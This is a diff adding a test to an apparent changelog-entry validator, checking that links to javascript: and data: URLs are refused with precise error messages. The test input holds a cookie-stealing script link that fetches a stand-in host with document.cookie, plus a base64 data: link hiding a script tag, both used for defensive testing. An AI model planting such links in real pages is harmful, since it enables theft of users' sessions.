@@ -70,3 +70,12 @@ test('pull requests, issues and credits are typed: numbers without #, user names
     'pulls: must list at least one pull request (leave the field out when there is none)',
   ]);
 });
+
+test('a link that would run script or open a data: document is refused, naming the body line and the reason', () => {
+  expect(problems(entry(OK, '\n## Fixes\n\n- Fixed [a crash](javascript:fetch(`//x/`+document.cookie)).\n'))).toEqual([
+    'body, line 10, column 9: a link to a javascript: URL is not allowed in an entry (it runs script when followed); link to an https:// page',
+  ]);
+  expect(problems(entry(OK, '\n## Fixes\n\n- [Notes](data:text/html;base64,PHNjcmlwdD4=)\n'))[0]).toMatch(
+    /^body, line 10, column 3: a link to a data: URL .*opens a document the site does not publish/,
+  );
+});
